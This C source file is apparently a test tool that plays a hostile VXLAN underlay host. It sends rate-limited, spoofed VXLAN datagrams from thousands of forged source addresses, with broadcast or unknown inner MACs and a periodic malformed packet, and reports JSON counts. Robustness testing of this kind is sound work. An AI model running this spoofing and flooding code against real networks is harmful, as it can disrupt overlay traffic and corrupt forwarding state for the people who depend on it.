/*
 * A host of the underlay that means harm: VXLAN datagrams that name thousands of other hosts as their senders, until
 * SIGTERM.
 *
 *   spoofed-vteps IFNAME TARGET_MAC TARGET_ADDRESS SOURCES VNI,VNI... RATE SECONDS
 *
 * Datagrams go to the VNIs by turns, SOURCES different addresses from 10.64.0.0 on, each with inner MACs of its own;
 * every 16th is malformed. RATE in datagrams a second; it ends by itself after so many seconds. Prints "spoofing" at
 * first, and at the end a line of JSON: how many the kernel took, and how many of these were malformed.
 */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#define BATCH 50
#define INNER 60
#define LENGTH (14 + 20 + 8 + 8 + INNER)
#define MOST_VNIS 8

static volatile sig_atomic_t over;
static uint8_t frame[LENGTH];

static void end(int number) {
  (void)number;
  over = 1;
}

static void put16(int at, uint32_t value) {
  frame[at] = (uint8_t)(value >> 8);
  frame[at + 1] = (uint8_t)value;
}

static void put32(int at, uint32_t value) {
  put16(at, value >> 16);
  put16(at + 2, value);
}

static void finish_ip(void) {
  uint32_t sum = 0;
  put16(24, 0);
  for (int at = 14; at < 34; at += 2) sum += (uint32_t)(frame[at] << 8 | frame[at + 1]);
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  put16(24, ~sum & 0xffff);
}

/* What stays the same in all of them. */
static void begin(const char *target_mac, const char *target) {
  unsigned byte[6];
  struct in_addr address;
  if (sscanf(target_mac, "%x:%x:%x:%x:%x:%x", byte, byte + 1, byte + 2, byte + 3, byte + 4, byte + 5) != 6) exit(2);
  if (inet_pton(AF_INET, target, &address) != 1) exit(2);
  for (int i = 0; i < 6; i++) frame[i] = (uint8_t)byte[i];
  memcpy(frame + 6, (uint8_t[]){2, 0, 0, 0, 0xbb, 1}, 6);
  put16(12, 0x0800);
  frame[14] = 0x45;
  frame[22] = 64;
  frame[23] = 17;
  memcpy(frame + 30, &address, 4);
  put16(36, 4789);
  put16(50 + 12, 0x88b5);
}

/* One more datagram. @returns its length */
static int next(uint32_t number, uint32_t sources, uint32_t vni) {
  uint32_t source = number % sources;
  int payload = 8 + INNER, malformed = number % 16 == 15;
  put32(26, 0x0a400000 + source);
  put16(34, 49152 + (number & 0x3fff));
  put32(42, 0x08000000);
  put32(46, vni << 8);
  /* To a MAC that nobody has, or to everyone. */
  memcpy(frame + 50,
         number / 8 % 4 == 0 ? (uint8_t[]){0xff, 0xff, 0xff, 0xff, 0xff, 0xff} : (uint8_t[]){2, 0, 0, 0, 0xee, 2}, 6);
  put16(56, 0x0666);
  put32(58, source * 2654435761u);
  if (malformed) {
    uint32_t kind = number / 16 % 3;
    if (kind == 0) put32(42, 0);
    if (kind == 1) put32(46, (number & 0xffffff) << 8 | 0xff);
    if (kind == 2) payload = (int)(number / 48 % 22);
  }
  put16(16, (uint32_t)(28 + payload));
  put16(38, (uint32_t)(8 + payload));
  finish_ip();
  return 42 + payload;
}

int main(int count, char **words) {
  uint32_t vnis[MOST_VNIS], vni_count = 0, number = 0;
  unsigned long taken = 0, malformed = 0;
  if (count != 8) return 2;
  begin(words[2], words[3]);
  for (char *word = strtok(words[5], ","); word != NULL && vni_count < MOST_VNIS; word = strtok(NULL, ","))
    vnis[vni_count++] = (uint32_t)atoi(word);
  int fd = socket(AF_PACKET, SOCK_RAW, 0);
  struct sockaddr_ll place = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(words[1])};
  if (fd < 0 || vni_count == 0 || bind(fd, (struct sockaddr *)&place, sizeof place) < 0) return 1;
  signal(SIGTERM, end);
  signal(SIGALRM, end);
  alarm((unsigned)atoi(words[7]));
  puts("spoofing");
  fflush(stdout);
  while (!over) {
    for (int i = 0; i < BATCH; i++, number++) {
      int length = next(number, (uint32_t)atoi(words[4]), vnis[number % vni_count]);
      if (send(fd, frame, (size_t)length, 0) < 0) continue;
      taken++;
      malformed += number % 16 == 15;
    }
    usleep((useconds_t)(BATCH * 1000000L / atoi(words[6])));
  }
  printf("{\"taken\":%lu,\"malformed\":%lu}\n", taken, malformed);
  return 0;
}
